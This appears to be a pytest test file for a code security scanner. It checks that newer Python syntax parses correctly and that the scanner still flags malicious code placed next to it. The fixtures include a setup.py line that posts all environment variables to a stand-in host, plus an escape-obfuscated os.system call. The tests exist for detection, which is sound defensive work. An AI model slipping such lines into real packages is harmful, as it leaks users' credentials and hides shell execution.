"""Python of other years is read by every Python that the store runs on."""

import ast

import pytest

from scanner.analyzers.python import PythonAnalyzer
from scanner.analyzers.python.dialects import dialects, parsed

NEWER = {
    "a function with types": "def f[T: (int, str), *Ts](x: T) -> T:\n    return x\n",
    "a class with types on lines of their own": (
        "class Pair[\n    K: (int, str),\n    V = int,\n](Base):\n    first: K\n"
    ),
    "a type": "type Rows = list[str]\n",
    "a type with types": "type Rows[T] = list[T]\n",
    "the same quotes in a formatted text": 'x = f"{row["name"]} {f"{y}"}"\n',
    "an escape in a formatted text": 'x = f"""of\n{"\\n".join(rows)}\n{{as it is}}"""\n',
    "several exceptions without brackets": "try:\n    f()\nexcept OSError, ValueError:\n    g()\n",
    "a group of them": "try:\n    f()\nexcept* OSError, ValueError:\n    g()\n",
    "a template": 'x = t"{name}"\n',
}


@pytest.mark.parametrize("text", NEWER.values(), ids=NEWER)
def test_newer_python_is_read_on_the_same_lines(text):
    tree = ast.parse(next(dialects(text)))

    assert parsed(text)
    last = max(node.end_lineno for node in ast.walk(tree) if hasattr(node, "end_lineno"))
    assert last == text.count("\n")


@pytest.mark.parametrize("text", NEWER.values(), ids=NEWER)
def test_what_stands_beside_it_is_found(text, tmp_path):
    stolen = "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))\n"
    (tmp_path / "setup.py").write_text(text + stolen)

    told = {(finding.rule, finding.line) for finding in PythonAnalyzer().analyze(tmp_path)}

    assert ("python.exfiltration", text.count("\n") + 2) in told


def test_a_name_spelled_in_escapes_within_a_formatted_text_is_spelled_out():
    assert "os.system" in next(dialects('f"{getattr(os, "sys\\x74em")("id")} {"os.s\\x79stem"}"'))


def test_what_is_no_python_of_any_year_is_refused():
    with pytest.raises(SyntaxError):
        parsed("class ] {{")
